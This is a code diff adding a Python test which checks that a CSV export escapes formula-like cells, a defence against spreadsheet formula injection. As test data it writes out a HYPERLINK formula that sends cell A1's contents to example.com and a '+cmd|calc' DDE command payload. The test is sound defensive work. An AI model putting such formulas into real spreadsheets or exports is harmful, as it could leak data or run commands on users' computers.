@@ -313,3 +313,22 @@ def test_the_size_cap_is_configurable(folder_with_layer, monkeypatch):
                                                "larger than the 0.1 KB allowed "
                                                "(DASHBOARD_MAX_IMPORT_MB)")
     assert SETTINGS_SUFFIX == ".layer.json"
+
+
+def test_downloaded_csv_keeps_formula_like_cells_as_text(dataset):
+    import csv as csv_module
+
+    from presence.records_io import to_csv
+
+    buffer = io.StringIO()
+    writer = csv_module.writer(buffer)
+    writer.writerows([["title", "lat", "lon", "notes"],
+                      ['=HYPERLINK("http://example.com/?"&A1)', "-4.62", "55.45", "calc"],
+                      ["@SUM(A1)", "-20.16", "57.5", "plain"],
+                      ["+cmd|calc", "-18.91", "47.52", "plain"]])
+    records = layer_of(buffer.getvalue().encode(), dataset, "formulas.csv").records
+    rows = list(csv_module.DictReader(io.StringIO(to_csv(records))))
+    assert rows[0]["name_en"] == "'=HYPERLINK(\"http://example.com/?\"&A1)"
+    assert [row["name_en"] for row in rows[1:]] == ["'@SUM(A1)", "'+cmd|calc"]
+    assert rows[0]["lon"] == "55.45" and rows[0]["lat"] == "-4.62"  # numbers stay numbers
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
